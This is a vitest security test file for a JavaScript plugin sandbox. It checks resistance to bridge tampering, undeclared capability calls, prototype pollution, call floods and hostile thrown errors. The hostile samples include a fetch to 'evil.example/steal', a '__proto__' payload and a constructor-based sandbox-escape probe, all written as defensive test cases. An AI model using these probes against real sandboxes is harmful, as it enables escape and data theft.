import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CapabilityCall } from '../../src/sandbox/types.js';
import { bundle, errorOf, expectOk, poolForFile, request } from './helpers.js';

const pool = poolForFile({ size: 2 });

function recorder(answer: (call: CapabilityCall) => unknown = () => null) {
  const calls: CapabilityCall[] = [];
  return {
    calls,
    onCapabilityCall: async (call: CapabilityCall) => {
      calls.push(structuredClone(call));
      return answer(call);
    },
  };
}

describe('S-08 tampering with the bridge', () => {
  const send = `
    const attempts = [];
    const attempt = (name, tamper) => { try { tamper(); attempts.push(name + ': changed'); } catch (error) { attempts.push(name + ': ' + error.constructor.name); } };`;
  const call = `await ctx.kv.set('k', { list: [1, 2, 3], when: 'now' }); return { output: { attempts, json: JSON.stringify({ a: [1] }) } };`;
  const tamper = bundle('tamper', {
    'tamper/to-json': `async (input, ctx) => { ${send} attempt('Object.prototype.toJSON', () => { Object.prototype.toJSON = () => 'hijacked'; }); ${call} }`,
    'tamper/stringify': `async (input, ctx) => { ${send} attempt('JSON.stringify', () => { JSON.stringify = () => '"hijacked"'; }); ${call} }`,
    'tamper/then': `async (input, ctx) => { ${send} attempt('Promise.prototype.then', () => { Promise.prototype.then = function () { throw new Error('hijacked'); }; }); ${call} }`,
    'tamper/map': `async (input, ctx) => { ${send} attempt('Array.prototype.map', () => { Array.prototype.map = () => ['hijacked']; }); ${call} }`,
    'tamper/species': `async (input, ctx) => { ${send} attempt('Promise[Symbol.species]', () => { Object.defineProperty(Promise, Symbol.species, { get: () => class Evil {} }); }); ${call} }`,
    'tamper/ctx': `async (input, ctx) => { ${send}
      attempt('ctx.kv.set', () => { ctx.kv.set = () => 'hijacked'; });
      attempt('ctx.kv', () => { ctx.kv = {}; });
      attempt('ctx.kv.set.call', () => { ctx.kv.set.call = () => 'hijacked'; });
      ${call} }`,
  });
  const sloppy = bundle(
    'sloppy',
    { 'sloppy/tamper': `async (input, ctx) => { JSON.stringify = () => 'x'; Object.prototype.toJSON = () => 'x'; ctx.kv.set = null; await ctx.kv.set('k', { list: [1, 2, 3], when: 'now' }); return { output: JSON.stringify([1]) }; }` },
    { strict: false },
  );
  const untouched = bundle('untouched', {
    'untouched/check': `() => ({ output: { json: JSON.stringify({ a: [1, 2].map((x) => x * 2) }), toJSON: typeof Object.prototype.toJSON, then: Promise.prototype.then.name } })`,
  });

  for (const nodeType of ['tamper/to-json', 'tamper/stringify', 'tamper/then', 'tamper/map', 'tamper/species', 'tamper/ctx']) {
    it(`leaves marshalling intact after ${nodeType}`, async () => {
      const host = recorder();
      const value = expectOk(await pool.run(request(tamper, nodeType, { capabilities: ['kv'], onCapabilityCall: host.onCapabilityCall })));
      expect(host.calls).toEqual([{ capability: 'kv', method: 'set', args: ['k', { list: [1, 2, 3], when: 'now' }] }]);
      const output = value.output as { attempts: string[]; json: string };
      expect(output.json).toBe('{"a":[1]}');
      for (const attempt of output.attempts) expect(attempt).toMatch(/: TypeError$/);
    });
  }

  it('ignores sloppy-mode tampering silently and still sends a well-formed copy', async () => {
    const host = recorder();
    const value = expectOk(await pool.run(request(sloppy, 'sloppy/tamper', { capabilities: ['kv'], onCapabilityCall: host.onCapabilityCall })));
    expect(value.output).toBe('[1]');
    expect(host.calls).toEqual([{ capability: 'kv', method: 'set', args: ['k', { list: [1, 2, 3], when: 'now' }] }]);
  });

  it('leaves a second plugin of the same workspace untouched', async () => {
    for (const nodeType of ['tamper/to-json', 'tamper/stringify', 'tamper/then']) {
      await pool.run(request(tamper, nodeType, { capabilities: ['kv'], onCapabilityCall: async () => null }));
    }
    const value = expectOk(await pool.run(request(untouched, 'untouched/check')));
    expect(value.output).toEqual({ json: '{"a":[2,4]}', toJSON: 'undefined', then: 'then' });
  });
});

describe('S-09 undeclared capability', () => {
  const probe = bundle('probe', {
    'probe/undeclared': `async (input, ctx) => {
      const results = {};
      for (const [name, call] of [['http', () => ctx.http.fetch('https://example.com/')], ['secrets', () => ctx.secrets.get('API_KEY')], ['billing', () => ctx.billing.balance()]]) {
        try { await call(); results[name] = 'called'; } catch (error) { results[name] = error.code + ' | ' + error.message; }
      }
      return { output: results };
    }`,
    'probe/uncaught': `async (input, ctx) => ({ output: await ctx.secrets.get('API_KEY') })`,
    'probe/other-host': `async (input, ctx) => ({ output: await ctx.http.fetch('https://evil.example/steal') })`,
    'probe/proto-args': `async (input, ctx) => {
      try { await ctx.kv.set('k', JSON.parse('{"__proto__": {"polluted": true}}')); return { output: 'sent' }; }
      catch (error) { return { output: error.message }; }
    }`,
  });

  it('throws capability_not_declared with a fix and never calls the host', async () => {
    const host = recorder();
    const value = expectOk(await pool.run(request(probe, 'probe/undeclared', { capabilities: ['kv'], onCapabilityCall: host.onCapabilityCall })));
    expect(value.output).toEqual({
      http: 'capability_not_declared | capability_not_declared: http (ctx.http.fetch needs "http:<host>" in the node\'s "capabilities" list in plugin.json)',
      secrets: 'capability_not_declared | capability_not_declared: secrets (ctx.secrets.get needs "secrets" in the node\'s "capabilities" list in plugin.json)',
      billing: 'capability_not_declared | capability_not_declared: billing (ctx.billing.balance needs "billing" in the node\'s "capabilities" list in plugin.json)',
    });
    expect(host.calls).toEqual([]);
  });

  it('fails the step with capability_not_declared when the plugin does not catch it', async () => {
    const host = recorder();
    const error = errorOf(await pool.run(request(probe, 'probe/uncaught', { capabilities: ['kv'], onCapabilityCall: host.onCapabilityCall })));
    expect(error.code).toBe('capability_not_declared');
    expect(error.message).toMatch(/^capability_not_declared: secrets/);
    expect(host.calls).toEqual([]);
  });

  it('refuses capability arguments carrying a "__proto__" key before they reach the host', async () => {
    const host = recorder();
    const result = await pool.run(request(probe, 'probe/proto-args', { capabilities: ['kv'], onCapabilityCall: host.onCapabilityCall }));
    expect(expectOk(result).output).toMatch(/^capability_failed: the arguments of kv.set were refused/);
    expect(host.calls).toEqual([]);
  });

  it('refuses an http call to a host the manifest does not name', async () => {
    const host = recorder();
    const error = errorOf(
      await pool.run(request(probe, 'probe/other-host', { capabilities: ['http:api.example.com'], onCapabilityCall: host.onCapabilityCall })),
    );
    expect(error).toMatchObject({ code: 'capability_not_declared', message: expect.stringMatching(/^capability_not_declared: http:evil\.example/) });
    expect(host.calls).toEqual([]);
  });
});

describe('S-12 promise and capability floods', () => {
  const flood = bundle('flood', {
    'flood/all': `async (input, ctx) => {
      const settled = await Promise.allSettled(Array.from({ length: 10000 }, (_, i) => ctx.llm.chat({ n: i })));
      const codes = {};
      let fulfilled = 0;
      for (const s of settled) { if (s.status === 'fulfilled') fulfilled += 1; else codes[s.reason.code] = (codes[s.reason.code] || 0) + 1; }
      return { output: { fulfilled, codes } };
    }`,
  });

  it('keeps at most 8 calls in flight, executes at most 100 and refuses the rest with capability_limit', async () => {
    let inFlight = 0;
    let highWater = 0;
    let executed = 0;
    const result = await pool.run(
      request(flood, 'flood/all', {
        capabilities: ['llm'],
        limits: { timeoutMs: 15_000, memoryMb: 64 },
        onCapabilityCall: async () => {
          executed += 1;
          inFlight += 1;
          highWater = Math.max(highWater, inFlight);
          await new Promise((resolve) => setTimeout(resolve, 2));
          inFlight -= 1;
          return { text: 'ok' };
        },
      }),
    );
    expect(expectOk(result).output).toEqual({ fulfilled: 100, codes: { capability_limit: 9900 } });
    expect(highWater).toBeLessThanOrEqual(8);
    expect(executed).toBe(100);
    expect(result.stats.capabilityCalls).toBe(100);
  });
});

describe('S-14 rejections across the boundary', () => {
  const rejections = bundle('rejections', {
    'rejections/ignored': `async (input, ctx) => { ctx.kv.get('fails'); const value = await ctx.kv.get('works'); return { output: value }; }`,
    'rejections/detached-then': `() => { Promise.resolve().then(() => { throw new Error('detached'); }); return { port: 'out' }; }`,
    'rejections/caught': `async (input, ctx) => { try { await ctx.kv.get('x'); return { port: 'no' }; } catch (error) { return { port: 'caught', output: error.message }; } }`,
    'rejections/ok': `() => ({ port: 'out' })`,
  });
  let unhandled = 0;
  const onUnhandled = () => (unhandled += 1);
  beforeEach(() => {
    unhandled = 0;
    process.on('unhandledRejection', onUnhandled);
  });
  afterEach(() => {
    process.off('unhandledRejection', onUnhandled);
  });

  const failing = (call: CapabilityCall) => (call.args[0] === 'fails' ? Promise.reject(new Error('kv down')) : Promise.resolve('fine'));

  it('ignores an unhandled rejected capability promise (documented) and the next run is clean', async () => {
    const first = await pool.run(request(rejections, 'rejections/ignored', { workspaceId: 'ws-rej', capabilities: ['kv'], onCapabilityCall: failing }));
    expect(expectOk(first).output).toBe('fine');
    const next = await pool.run(request(rejections, 'rejections/ok', { workspaceId: 'ws-rej' }));
    expect(expectOk(next)).toEqual({ port: 'out' });
    expect(next.stats.workerPid).toBe(first.stats.workerPid);
    expect(unhandled).toBe(0);
  });

  it('ignores a throw in a detached then and the next run is clean', async () => {
    const first = await pool.run(request(rejections, 'rejections/detached-then', { workspaceId: 'ws-rej' }));
    expect(expectOk(first)).toEqual({ port: 'out' });
    expect(expectOk(await pool.run(request(rejections, 'rejections/ok', { workspaceId: 'ws-rej' })))).toEqual({ port: 'out' });
  });

  it('survives a host capability that rejects immediately or throws synchronously (isolated-vm #314)', async () => {
    const immediate = await pool.run(
      request(rejections, 'rejections/caught', { capabilities: ['kv'], onCapabilityCall: () => Promise.reject(new Error('at once')) }),
    );
    expect(expectOk(immediate)).toEqual({ port: 'caught', output: 'capability_failed: at once' });
    const sync = await pool.run(
      request(rejections, 'rejections/caught', {
        capabilities: ['kv'],
        onCapabilityCall: () => {
          throw new TypeError('sync throw');
        },
      }),
    );
    expect(expectOk(sync)).toEqual({ port: 'caught', output: 'capability_failed: sync throw' });
    expect(unhandled).toBe(0);
    expect(pool.stats().workerCrashes).toBe(0);
  });
});

describe('S-15 hostile error objects', () => {
  const errors = bundle('errors', {
    'errors/proxy': `() => { throw new Proxy({}, { get() { throw new Error('trap'); }, getOwnPropertyDescriptor() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); } }); }`,
    'errors/looping-getters': `() => { const e = { get message() { return this.message; }, get name() { for (;;) {} } }; throw e; }`,
    'errors/endless-to-string': `() => { throw { toString() { for (;;) {} }, valueOf() { for (;;) {} } }; }`,
    'errors/huge-message': `() => { throw new Error('m'.repeat(50 * 1024 * 1024)); }`,
    'errors/cause-chain': `() => { let e = new Error('root'); for (let i = 0; i < 10000; i += 1) e = new Error('level ' + i, { cause: e }); throw e; }`,
    'errors/string': `() => { throw 'plain string'; }`,
    'errors/host-overflow': `async (input, ctx) => {
      try { await ctx.kv.get('x'); return { port: 'no' }; }
      catch (error) {
        const escape = error.constructor.constructor('return typeof process')();
        return { port: 'caught', output: { code: error.code, message: error.message, sameError: error.constructor === Error, escape } };
      }
    }`,
  });

  it('reads nothing from a thrown Proxy', async () => {
    const error = errorOf(await pool.run(request(errors, 'errors/proxy')));
    expect(error).toEqual({
      code: 'plugin_error',
      message: 'Error: (the thrown value has no string message)',
      thrown: { name: 'Error', message: '(the thrown value has no string message)' },
    });
  });

  it('never runs getters or toString of a thrown value', async () => {
    for (const nodeType of ['errors/looping-getters', 'errors/endless-to-string']) {
      const error = errorOf(await pool.run(request(errors, nodeType, { limits: { timeoutMs: 5_000, memoryMb: 32 } })));
      expect(error).toEqual({
        code: 'plugin_error',
        message: 'Error: (the thrown value has no string message)',
        thrown: { name: 'Error', message: '(the thrown value has no string message)' },
      });
    }
  });

  it('truncates a 50 MB message to 2,000 characters', async () => {
    const error = errorOf(await pool.run(request(errors, 'errors/huge-message', { limits: { timeoutMs: 5_000, memoryMb: 256 } })));
    expect(error.code).toBe('plugin_error');
    expect(error.thrown?.message).toBe(`${'m'.repeat(2000)}...`);
  });

  it('does not follow a cause chain 10,000 deep', async () => {
    const error = errorOf(await pool.run(request(errors, 'errors/cause-chain', { limits: { timeoutMs: 5_000, memoryMb: 64 } })));
    expect(error).toEqual({ code: 'plugin_error', message: 'Error: level 9999', thrown: { name: 'Error', message: 'level 9999' } });
  });

  it('reports a thrown string as its text', async () => {
    expect(errorOf(await pool.run(request(errors, 'errors/string')))).toMatchObject({ code: 'plugin_error', message: 'Error: plain string' });
  });

  it('is not hurt by a host capability overflowing its own stack, whose error holds only isolate intrinsics', async () => {
    const overflow = (depth: number): number => overflow(depth + 1) + 1;
    const result = await pool.run(
      request(errors, 'errors/host-overflow', { capabilities: ['kv'], onCapabilityCall: async () => overflow(0) }),
    );
    expect(expectOk(result)).toEqual({
      port: 'caught',
      output: { code: 'capability_failed', message: 'capability_failed: Maximum call stack size exceeded', sameError: true, escape: 'undefined' },
    });
  });
});
